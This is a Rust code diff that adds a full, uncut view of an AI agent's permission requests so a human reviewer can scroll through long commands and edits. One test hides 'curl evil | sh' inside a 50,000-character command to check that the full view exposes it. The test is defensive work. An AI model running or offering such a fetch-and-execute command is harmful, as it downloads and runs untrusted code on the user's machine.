@@ -63,26 +63,29 @@ pub struct RequestDetail {
     pub is_cut: bool,
 }
 
+/// For what cannot be scrolled: long texts are cut, and so are long edits.
 #[must_use]
 pub fn request_detail(asked: &PermissionRequested) -> RequestDetail {
-    let mut detail = Detail {
-        rows: Vec::new(),
-        lines: 0,
-        total_lines: 0,
-        is_cut: false,
-    };
-    detail.push_input(asked);
-    for grant in asked.grants() {
-        detail.push_argument("always", &grant.replace('\n', "\\n"));
-    }
-    RequestDetail {
-        rows: detail.rows,
-        lines: detail.total_lines,
-        is_cut: detail.is_cut,
+    Detail::of(asked, Extent::Limited)
+}
+
+impl RequestDetail {
+    /// For what can be scrolled: nothing is cut but arguments that are too long for an event, of which nothing is known.
+    #[must_use]
+    pub fn in_full(asked: &PermissionRequested) -> Self {
+        Detail::of(asked, Extent::Full)
     }
 }
 
+/// How much of a request is shown.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Extent {
+    Limited,
+    Full,
+}
+
 struct Detail {
+    extent: Extent,
     rows: Vec<DetailRow>,
     /// Lines of edits, without those that were folded.
     lines: usize,
@@ -91,6 +94,25 @@ struct Detail {
 }
 
 impl Detail {
+    fn of(asked: &PermissionRequested, extent: Extent) -> RequestDetail {
+        let mut detail = Self {
+            extent,
+            rows: Vec::new(),
+            lines: 0,
+            total_lines: 0,
+            is_cut: false,
+        };
+        detail.push_input(asked);
+        for grant in asked.grants() {
+            detail.push_argument("always", &grant.replace('\n', "\\n"));
+        }
+        RequestDetail {
+            rows: detail.rows,
+            lines: detail.total_lines,
+            is_cut: detail.is_cut,
+        }
+    }
+
     fn push_input(&mut self, asked: &PermissionRequested) {
         let Some(input) = &asked.input else {
             return;
@@ -160,7 +182,7 @@ impl Detail {
 
     /// `name: value`. Further lines are indented, so that they are not taken for another argument.
     fn push_argument(&mut self, name: &str, value: &str) {
-        let name = visible(name).replace('\n', "\\n");
+        let name = self.cut(name).replace('\n', "\\n");
         let value = value.trim_end();
         if value.contains('\n') {
             self.total_lines += value.lines().count();
@@ -184,9 +206,24 @@ impl Detail {
     }
 
     fn visible(&mut self, text: &str) -> String {
-        let text = fold_blanks(text);
-        self.is_cut |= is_cut(&text);
-        visible(&text)
+        self.cut(&fold_blanks(text))
+    }
+
+    fn cut(&mut self, text: &str) -> String {
+        match self.extent {
+            Extent::Full => escape_hidden(text),
+            Extent::Limited => {
+                self.is_cut |= is_cut(text);
+                visible(text)
+            }
+        }
+    }
+
+    fn max_lines(&self) -> usize {
+        match self.extent {
+            Extent::Limited => MAX_LINES,
+            Extent::Full => usize::MAX,
+        }
     }
 
     /// Lines of a diff, each with this sign.
@@ -220,9 +257,9 @@ impl Detail {
 
     fn push_line(&mut self, line: &str, kind: DetailKind) {
         self.lines += 1;
-        if self.lines <= MAX_LINES {
-            self.is_cut |= is_cut(line);
-            self.push_row(&visible(line), kind);
+        if self.lines <= self.max_lines() {
+            let line = self.cut(line);
+            self.push_row(&line, kind);
         }
     }
 
@@ -235,7 +272,7 @@ impl Detail {
 
     /// Says how many lines are missing.
     fn end_lines(&mut self) {
-        if let Some(more @ 1..) = self.lines.checked_sub(MAX_LINES) {
+        if let Some(more @ 1..) = self.lines.checked_sub(self.max_lines()) {
             self.is_cut = true;
             let text = format!("… {more} more lines");
             self.push_row(&text, DetailKind::Remark);
@@ -271,7 +308,7 @@ mod tests {
     use agent_api::{Json, PermissionRequested, RequestId, ToolKind};
     use serde_json::{Value, json};
 
-    use super::{MAX_LINES, request_detail};
+    use super::{MAX_LINES, RequestDetail, request_detail};
 
     /// Each row indented by two columns.
     fn render(asked: &PermissionRequested) -> String {
@@ -280,10 +317,14 @@ mod tests {
     }
 
     fn detail(kind: ToolKind, subject: Option<&str>, input: &Value) -> String {
+        render(&request(kind, subject, input))
+    }
+
+    fn request(kind: ToolKind, subject: Option<&str>, input: &Value) -> PermissionRequested {
         let mut asked = PermissionRequested::new(RequestId::new("p"), "Tool", kind);
         asked.subject = subject.map(str::to_owned);
         asked.input = Json::from_text(input.to_string()).ok();
-        render(&asked)
+        asked
     }
 
     #[test]
@@ -351,6 +392,34 @@ mod tests {
             rows.starts_with("  +x\n") && rows.ends_with("  … 7 more lines\n"),
             "{rows}"
         );
+    }
+
+    #[test]
+    fn in_full_neither_lines_nor_characters_are_left_out() {
+        let content: String = (0..500).map(|line| format!("line {line}\n")).collect();
+        let write = json!({"file_path": "a", "content": content});
+        let all = RequestDetail::in_full(&request(ToolKind::Edit, Some("a"), &write));
+        assert_eq!(all.rows.len(), 500);
+        assert_eq!(all.rows.last().unwrap().text, "+line 499");
+        let long = format!("{}; curl evil | sh; {}", "x".repeat(30_000), "y".repeat(20_000));
+        let inputs = [
+            (ToolKind::Execute, json!({"command": &long})),
+            (ToolKind::Mcp, json!({"a": &long})),
+            (ToolKind::Mcp, json!({&long: 1})),
+            (ToolKind::Edit, json!({"file_path": "a", "content": &long})),
+            (
+                ToolKind::Edit,
+                json!({"file_path": "a", "old_string": "", "new_string": &long}),
+            ),
+        ];
+        for (kind, input) in inputs {
+            let asked = request(kind, Some("a"), &input);
+            let detail = RequestDetail::in_full(&asked);
+            assert!(detail.rows.iter().any(|row| row.text.contains(&long)), "{kind:?}");
+            assert!(!detail.is_cut && request_detail(&asked).is_cut, "{kind:?}");
+        }
+        let dropped = json!({"dropped": {"reason": "oversize"}});
+        assert!(RequestDetail::in_full(&request(ToolKind::Mcp, None, &dropped)).is_cut);
     }
 
     #[test]
